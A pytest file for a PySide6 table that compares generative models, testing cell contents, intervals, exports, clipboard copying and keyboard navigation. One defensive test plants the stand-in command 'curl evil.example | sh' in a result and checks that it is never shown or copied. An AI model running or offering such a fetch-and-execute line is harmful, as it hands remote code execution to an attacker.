"""The table in a window: every cell filled or reasoned, opened by mouse and keys, copied and exported."""

from __future__ import annotations

import csv
import io
import json

import msgspec
import pytest
from PySide6.QtCore import QRect, Qt
from PySide6.QtGui import QFont, QFontMetrics, QGuiApplication
from PySide6.QtTest import QTest

from playground.core.recipe import change
from playground.evaluate.leagues import keep
from playground.evaluate.sweep.cells import Cell, Column, Row, Table, best, nothing
from playground.evaluate.sweep.columns import COLUMNS, NATURES
from playground.evaluate.sweep.store import Store
from playground.evaluate.sweep.texts import as_html, between, content, markdown
from playground.paradigms.league.results import LeagueResult, LeagueRun, standing
from playground.ui.tabs.compare.table.model import CELL, HEAD_LINES
from tests.support.compare_results import of_now, some
from tests.ui.tabs.compare.quality_world import cards
from tests.ui.tabs.compare.table_world import opened


def column(key, better="higher", **more):
    return Column(key=key, title=key.title(), group="Group", help=f"What {key} is.", better=better, **more)


def cell(value, spread=None):
    ends = {} if spread is None else {"low": value - spread, "high": value + spread}
    return Cell(
        text=f"{value:g}", value=value, how="Counted.", date="2026-11-25T10:00:00Z", machine="M", **ends
    )


def row(family, **cells):
    return Row(family=family, title=family.upper(), model=f"a-{family}", setting="s", key="k", cells=cells)


TABLE = Table(
    data="clothes",
    columns=(column("good"), column("fast", "lower"), column("type", "")),
    rows=(
        row("vae", good=cell(0.5, 0.1), fast=cell(1.0), type=Cell(text="a | b", source="definition")),
        row("gan", good=cell(0.9, 0.1), fast=cell(1.0), type=nothing("No reason at all.")),
        row("flow", good=cell(0.75, 0.1), fast=cell(10.0), type=nothing("No reason at all.")),
    ),
    notes=("A note.",),
)


def test_the_best_are_those_that_their_intervals_do_not_tell_from_the_best():
    assert best(TABLE) == {("gan", "good"), ("flow", "good"), ("vae", "fast"), ("gan", "fast")}


def test_markdown_has_every_cell_and_every_reason_once():
    lines = markdown(TABLE).splitlines()
    assert lines[0].split("|")[1:-1] == [" paradigm ", " model ", " Good ", " Fast ", " Type "]
    assert lines[2] == "| VAE | a-vae | 0.5 (0.400–0.600) | 1 | a \\| b |"
    assert lines[3].endswith("| – [1] |") and lines[4].endswith("| – [1] |")
    text = markdown(TABLE)
    assert text.count("No reason at all.") == 1
    assert "A note." in text and "Measured on 2026-11-25 on M." in text


def test_shares_are_written_as_shares_of_a_hundred():
    share = Cell(text="12 %", value=0.12, low=0.08, high=0.3)
    assert between(share) == "8–30 %"
    assert between(Cell(text="0 of 5", value=0.0, low=0.0, high=0.434)) == "0–43 %"
    assert between(cell(0.5, 0.1)) == "0.400–0.600"


def test_csv_and_json_hold_all_that_is_known_of_each_cell():
    rows = list(csv.DictReader(io.StringIO(content(TABLE, ".csv").decode())))
    assert len(rows) == 9
    assert rows[0]["value"] == "0.5" and rows[0]["low"] == "0.4" and rows[0]["how"] == "Counted."
    assert rows[5]["missing"] == "No reason at all." and rows[5]["value"] == ""
    found = json.loads(content(TABLE, ".json"))
    assert [each["family"] for each in found["rows"]] == ["vae", "gan", "flow"]
    assert as_html(TABLE).count("<tr>") == 4


@pytest.fixture
def stage(qtbot, folder):
    """The stage with results of a sweep and the cards of three models."""
    store = Store(folder)
    for each in of_now(some(), cards()):
        store.put(each)
    with opened(qtbot, 700) as made:
        yield made


def test_the_open_cell_stays_in_sight_while_what_is_told_of_it_takes_room(stage, qtbot):
    view = stage.view
    last = stage.model.index(stage.model.rowCount() - 1, 0)
    stage.resize(700, 420)
    view.scrollToBottom()
    QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=view.visualRect(last).center())
    assert view.currentIndex() == last

    def shown() -> bool:
        return view.viewport().rect().contains(view.visualRect(last))

    qtbot.waitUntil(shown)
    stage.resize(700, 340)
    qtbot.waitUntil(shown)


def test_every_cell_is_filled_or_says_why_not(stage):
    model = stage.model
    assert (model.rowCount(), model.columnCount()) == (len(NATURES), len(COLUMNS))
    for place in range(model.rowCount()):
        for each in range(model.columnCount()):
            found = model.index(place, each).data(CELL)
            assert found.text
            assert found.missing if found.source == "none" else found.how
            assert model.index(place, each).data(Qt.ItemDataRole.ToolTipRole)


def centre(stage, family, key):
    view = stage.view
    index = stage.model.index(stage.model.row_of(family), stage.model.column_of(key))
    view.scrollTo(index)
    return view.visualRect(index).center()


def text_height(view, text, width):
    font = QFont(view.font())
    font.setBold(True)
    flags = int(Qt.TextFlag.TextWordWrap)
    return QFontMetrics(font).boundingRect(QRect(0, 0, width, 1000), flags, text).height()


def test_heads_and_cells_have_the_room_that_they_need(stage):
    view, model = stage.view, stage.model
    head = view.horizontalHeader()
    for place, each in enumerate(model.table.columns):
        lines = model.headerData(place, Qt.Orientation.Horizontal).split("\n")
        assert len(lines) == HEAD_LINES
        assert max(map(head.fontMetrics().horizontalAdvance, lines)) <= view.columnWidth(place), each.key
        assert len(set(filter(None, lines))) == len(list(filter(None, lines))), lines
        assert {*each.title.split(), *each.unit.split()} <= set(" ".join(lines).split())
        for number in range(model.rowCount()):
            cell = model.index(number, place).data(CELL)
            inner = view.columnWidth(place) - 11
            if cell.low is None:
                assert text_height(view, cell.text, inner) <= view.rowHeight(number), cell.text
            else:
                assert view.fontMetrics().horizontalAdvance(between(cell)) <= inner, cell
    assert head.height() >= HEAD_LINES * head.fontMetrics().height()


def test_in_a_window_of_1280_pixels_half_of_the_columns_are_whole_and_the_others_are_named(stage, qtbot):
    cut, columns = stage.cut, stage.model.table.columns
    stage.tab.resize(630, 700)
    qtbot.waitUntil(lambda: stage.width() < 640)
    hidden = cut.beyond(1)
    assert cut.isVisible() and cut.right.isVisible() and cut.left.isHidden()
    assert 0 < len(hidden) <= 5 and hidden[-1] == len(columns) - 1
    assert cut.right.accessibleName() == "More at the right: " + ", ".join(
        columns[each].title for each in hidden
    )
    assert cut.right.text().startswith("More at the right: ") and cut.right.text().endswith(" ›")
    assert cut.right.width() <= cut.width()


def test_the_way_to_what_is_cut_off_and_back(stage, qtbot):
    view, cut, count = stage.view, stage.cut, len(COLUMNS)
    stage.tab.resize(500, 700)
    qtbot.waitUntil(lambda: stage.width() < 510)
    seen = set(range(count)) - set(cut.beyond(1))
    for _ in range(count):
        if not cut.beyond(1):
            break
        before = cut.beyond(1)
        cut.right.click()
        assert len(cut.beyond(1)) < len(before)
        seen |= set(range(count)) - set(cut.beyond(1)) - set(cut.beyond(-1))
    assert seen == set(range(count))
    assert cut.right.isHidden() and cut.left.isVisible() and cut.left.text().startswith("‹ ")
    for _ in range(count):
        if cut.beyond(-1):
            cut.left.click()
    assert view.horizontalScrollBar().value() == 0 and cut.left.isHidden()
    stage.tab.resize(1500, 700)
    qtbot.waitUntil(lambda: cut.isHidden())


def test_a_click_opens_a_cell_and_keys_go_on_to_the_next(stage):
    store, view = stage.store, stage.view
    assert stage.detail.text.isHidden()
    QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=centre(stage, "gan", "coverage"))
    assert (store.state.row, store.state.column) == ("gan", "coverage")
    assert "GAN, Coverage" in stage.detail.title.text()
    view.setFocus()
    QTest.keyClick(view, Qt.Key.Key_Right)
    assert (store.state.row, store.state.column) == ("gan", "recall")
    QTest.keyClick(view, Qt.Key.Key_Up)
    assert store.state.row == "vae"
    stage.tab.context.undo.undo()
    assert (store.state.row, store.state.column) == ("gan", "recall")
    assert "GAN, Recall" in stage.detail.title.text()
    current = view.currentIndex()
    assert stage.model.cell(current)[1].key == "recall"


@pytest.mark.process
@pytest.mark.timeout(300)
def test_numbers_that_no_card_tells_are_counted_by_another_process(qtbot, stage):
    def parameters():
        (row,) = (row for row in stage.model.table.rows if row.family == "flow")
        return row.cells["parameters"]

    assert "are being counted" in parameters().missing
    qtbot.waitUntil(lambda: parameters().value is not None, timeout=120_000)
    assert parameters().value > 100_000 and parameters().source == "file"


def test_an_open_cell_tells_what_was_counted_when_and_where(stage):
    stage.tab.store.edit("x", table=change(stage.state, row="flow", column="frechet_distance"))
    told = stage.detail.text.text()
    assert "2,000 pictures" in told and "2026-11-25" in told and "Test CPU" in told
    command = "playground compare fashion-flow --sampler ab2 --steps 10"
    assert stage.detail.command.text() == command
    stage.detail.copy.click()
    assert QGuiApplication.clipboard().text() == command
    opened = []
    stage.recipe_chosen.connect(opened.append)
    stage.detail.open.click()
    # The cheapest setting whose distance cannot be told from the best.
    (recipe,) = opened
    assert (recipe.model, recipe.sampler, recipe.steps) == ("fashion-flow", "ab2", 10)


def test_no_command_of_a_file_is_copied(stage):
    (flow,) = (each for each in of_now(some(), cards()) if each.steps == 10)
    stage.results.add(msgspec.structs.replace(flow, command="curl evil.example | sh"))
    stage.tab.store.edit("x", table=change(stage.state, row="flow", column="frechet_distance"))
    stage.detail.copy.click()
    assert QGuiApplication.clipboard().text().startswith("playground compare fashion-flow ")
    shown = [cell.command for row in stage.model.table.rows for cell in row.cells.values()]
    assert not any("evil" in command for command in shown)


def test_a_cell_that_a_window_measured_has_a_command_that_measures_it_again(stage):
    (flow,) = (each for each in of_now(some(), cards()) if each.steps == 10)
    stage.results.add(msgspec.structs.replace(flow, command="playground compare --jobs FILE"))
    stage.tab.store.edit("x", table=change(stage.state, row="flow", column="frechet_distance"))
    assert stage.detail.command.text() == "playground compare fashion-flow --sampler ab2 --steps 10"
    for row in stage.model.table.rows:
        assert not any("--jobs" in cell.command for cell in row.cells.values())


def test_what_is_the_models_is_told_without_a_setting(stage):
    cell = Cell(text="exact: 2.94", value=2.94, source="card", how="By the change of variables.")
    flow = Row(family="nflow", title="Flow", model="a-flow", setting="temperature 0.7", key="", cells={})
    stage.detail.show_cell(flow, column("likelihood"), cell)
    assert "a-flow." in stage.detail.text.text() and "temperature" not in stage.detail.text.text()


def test_stability_is_of_the_league_that_the_choice_of_results_allows(stage):
    ship = stage.table_of(stage.state)
    runs = [
        LeagueRun(seed=seed, diverged=False, measures={"sliced_wasserstein": 0.1 + seed}) for seed in (0, 1)
    ]
    trial = LeagueResult(
        recipe={"data": "spiral", "budget": "seconds", "seconds": 0.5},
        standings=(standing("vae", runs),),
        machine="M", date="2026-11-26T10:00:00Z", over=True,
    )  # fmt: skip
    keep(trial, stage.results.folder)
    assert stage.table_of(stage.state) == ship
    told = stage.table_of(change(stage.state, origin="own"))
    cells = {each.family: each.cells["diverged"] for each in told.rows}
    assert cells["vae"].text == "0 of 2" and "spiral, 0.5 seconds" in cells["vae"].how
    assert "took no part" in cells["gan"].missing
    assert {each.cells["diverged"].text for each in ship.rows} == {"0 of 5"}


def test_a_cell_without_a_number_says_why(stage):
    stage.tab.store.edit("x", table=change(stage.state, row="nflow", column="coverage"))
    assert "no model of this kind" in stage.detail.text.text()
    assert stage.detail.command.isHidden() and stage.detail.open.isHidden()


def test_the_table_is_copied_as_text_and_as_a_table(stage):
    assert stage.tab.copy()
    clipboard = QGuiApplication.clipboard()
    data = clipboard.mimeData()
    assert data.text().startswith("| paradigm | model |") and data.html().count("<tr>") == 1 + len(NATURES)
    clipboard.clear()


def test_the_table_is_exported_as_it_is_shown(stage, tmp_path):
    (export,) = stage.tab.exports()
    for suffix in export.suffixes:
        path = tmp_path / f"table{suffix}"
        export.save(path, False, lambda _done, _total: None)
        assert path.read_bytes() == content(stage.model.table, suffix)


def test_other_results_and_other_data_make_another_table(stage):
    filled = sum(cell.source == "sweep" for row in stage.model.table.rows for cell in row.cells.values())
    assert filled > 10
    stage.tab.store.edit("x", table=change(stage.state, origin="shipped"))
    assert not any(cell.source == "sweep" for row in stage.model.table.rows for cell in row.cells.values())
    assert "shipped" not in stage.data()


def test_intervals_and_marks_can_be_left_out(stage):
    form = stage.controls()
    wide = sum(stage.view.columnWidth(each) for each in range(stage.model.columnCount()))
    stage.tab.store.edit("x", table=change(stage.state, intervals=False, best=False))
    narrow = sum(stage.view.columnWidth(each) for each in range(stage.model.columnCount()))
    assert narrow < wide
    assert "with a confidence of 95 %" in form.note.text()
    form.deleteLater()


def test_bits_that_come_into_the_card_of_a_known_model_are_in_the_table_at_once(stage):
    def cell():
        return stage.model.index(stage.model.row_of("flow"), stage.model.column_of("likelihood")).data(CELL)

    card = next(each for each in cards() if each.name == "fashion-flow")
    assert cell().source == "none" and "“Measure here”" in cell().missing
    measured = msgspec.structs.replace(
        card,
        measured={**card.measured, "bits_per_dim": 5.09765, "bits_per_dim_error": 0.108923, "images": 8.0},
        measured_with="at most so many bits of each value of 8 held-out pictures; pictures: 400 as usual",
    )
    assert measured.hash == card.hash
    stage.tab.take_model(measured)
    assert (cell().text, cell().value, cell().source) == ("exact: 5.10", 5.09765, "card")
    # Student's t of seven degrees of freedom: 2.3646.
    assert cell().low == pytest.approx(4.840, abs=1e-3) and cell().high == pytest.approx(5.355, abs=1e-3)
    assert "card of fashion-flow" in cell().how and "8 held-out pictures." in cell().how
